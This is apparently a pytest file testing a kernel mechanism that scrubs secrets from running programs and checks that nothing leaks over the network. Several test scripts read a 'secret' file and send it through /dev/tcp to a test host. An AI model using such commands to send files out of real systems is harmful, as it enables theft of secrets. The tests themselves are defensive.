# SPDX-License-Identifier: GPL-3.0-or-later
"""The doppelganger takes the original's place: the program goes on, knows nothing of the secret and sends without being asked."""

import pytest

from tests.kernel.guest_run import SECRET, Case
from tests.kernel.oracle import assert_scrubbed, leaks
from tests.kernel.test_verdicts import PROGRAMS, thrice

HALVES = f"{SECRET[:8].decode()} {SECRET[8:].decode()}"


@pytest.mark.parametrize("case", [Case(name, script, "takeover") for name, script in PROGRAMS.items()], ids=str)
def test_program_goes_on(case, outcome):
    assert_scrubbed(outcome)
    assert outcome.status == 0, outcome.describe()
    assert not outcome.tainted, outcome.describe()


SUBSHELL = "x=$(tr '\\n' ' ' < secret); (echo first $x > /dev/tcp/remote/9; echo second $x > /dev/tcp/remote/9)"
# The parent ends while the child is made.
ORPHAN = SUBSHELL.replace("(echo", "((sleep 0.3; echo").replace("9)", "9; : >sent) & ); until [ -e sent ]; do sleep 0.1; done")


@pytest.mark.parametrize("case", [Case("subshell", SUBSHELL, "takeover"), Case("orphan", ORPHAN, "takeover")], ids=str)
def test_forked_child_goes_on(case, outcome):
    assert_scrubbed(outcome)
    assert outcome.status == 0 and len(outcome.questions) == 1 and not outcome.tainted, outcome.describe()
    assert b"first" in outcome.received and b"second" in outcome.received, outcome.describe()


# The parent has often ended before its doppelganger makes its first call.
ORPHANS = """
x=$(tr '\\n' ' ' < secret)
for i in 1 2 3 4 5 6 7 8; do
    ((read -r uptime _ < /proc/uptime; sleep 0.1; echo first $x > /dev/tcp/remote/9; : >sent.$i) & )
    until [ -e sent.$i ]; do sleep 0.1; done
done
"""


@pytest.mark.parametrize("case", [Case("orphans", ORPHANS, "takeover", timeout=30)], ids=str)
def test_every_orphan_has_a_doppelganger(case, outcome):
    assert_scrubbed(outcome)
    assert outcome.status == 0 and outcome.received.count(b"first") == 8 and not outcome.tainted, outcome.describe()


@pytest.mark.parametrize("case", [Case("all", f"takeover secret {HALVES}", "takeover")], ids=str)
def test_nothing_of_the_secret_stays(case, outcome):
    """Memory, registers, open and mapped files; the same file read again, and by a child. One question for all."""
    assert_scrubbed(outcome)
    assert outcome.status == 0, outcome.describe()
    told = dict(line.split(" ", 1) for line in outcome.output.splitlines() if " " in line)
    assert int(told["before"]) >= 3 and told["after"] == "0", outcome.describe()
    assert told["register"] == "xxxxxx" and told["pid"] == "same", outcome.describe()
    assert told["open"] == told["again"] == "xxxxxx" and told["child"] == "0", outcome.describe()
    assert told["sent"] == "all" and len(outcome.questions) == 1, outcome.describe()


@pytest.mark.parametrize("case", [thrice("takeover", "takeover", "flow")], ids=str)
def test_asked_once(case, outcome):
    """The answer holds for later connections too."""
    assert len(outcome.questions) == 1 and not leaks(outcome.received), outcome.describe()
    assert all(word in outcome.received for word in (b"one", b"two", b"three")), outcome.describe()


OTHER_LABEL = """
cp /run/plain other
agent label-other other
exec 5> /dev/tcp/10.77.0.2/9
read -r _ < secret; read -r line < secret; echo "first $line" >&5
while read -r line; do echo "second $line" >&5; done < other
"""


@pytest.mark.parametrize("case", [Case("other-label", OTHER_LABEL, "takeover")], ids=str)
def test_other_label_is_asked_about(case, outcome):
    assert len(outcome.questions) >= 2 and not leaks(outcome.received), outcome.describe()
    assert b"first" in outcome.received and b"second" in outcome.received, outcome.describe()


@pytest.mark.parametrize("case", [Case("exec", "bash -c 'x=$(cat secret); echo $x > /dev/tcp/remote/9; exec leak read write secret'",
                                       "takeover")], ids=str)
def test_another_program_begins_anew(case, outcome):
    assert len(outcome.questions) == 2 and not leaks(outcome.received), outcome.describe()


@pytest.mark.parametrize("case", [Case("threads", "leak read thread secret", "takeover"),
                                  Case("vfork", "leak read vfork secret", "takeover")], ids=str)
def test_where_it_cannot_the_copy_is_sent(case, outcome):
    assert not leaks(outcome.received), outcome.describe()
    assert outcome.questions, outcome.describe()


KILLED = """
for i in $(seq 20); do
    takeover secret {halves} & pid=$!
    sleep 0.0$((RANDOM % 90 + 10))
    kill -9 $pid
    wait $pid
done
"""


@pytest.mark.parametrize("case", [Case("killed", KILLED.format(halves=HALVES), "takeover", timeout=60)], ids=str)
def test_killed_at_any_moment(case, outcome):
    assert not leaks(outcome.received), outcome.describe()
